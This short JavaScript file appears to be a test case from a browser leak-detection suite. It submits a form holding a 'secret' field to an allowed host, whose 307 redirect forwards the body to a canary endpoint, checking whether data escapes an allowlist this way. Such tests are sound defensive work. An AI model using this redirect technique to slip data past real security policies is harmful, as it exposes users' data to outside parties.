// A form to an allowed host, which redirects so that the body goes along to the canary.
// @leaves: the view goes to the canary by the allowed host
export default (t) => {
  const form = document.createElement('form')
  form.method = 'post'
  form.action = t.allowed(`answer?${new URLSearchParams({ status: 307, header: `Location: ${t.http('redirect')}` })}`)
  form.innerHTML = '<input name="secret" value="word">'
  document.body.append(form)
  form.submit()
}
